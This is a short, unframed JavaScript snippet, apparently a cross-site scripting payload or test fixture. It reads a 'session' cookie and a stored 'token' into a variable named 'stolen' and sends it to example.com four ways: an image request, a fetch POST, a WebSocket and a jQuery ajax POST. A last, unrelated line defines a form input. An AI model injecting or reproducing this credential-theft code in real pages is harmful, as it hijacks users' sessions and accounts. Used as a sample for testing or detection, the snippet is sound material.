var stolen = getCookie("session") + localStorage.getItem("token");
new Image().src = "https://example.com/?" + stolen;
fetch("https://example.com/", {method: "POST", body: stolen});
new WebSocket("wss://example.com/");
$.ajax({url: "https://example.com/", type: "POST", data: {stolen: stolen}});
$.atoms.x = [{tag_code: "x", type: "input", attrs: {name: "X"}}];
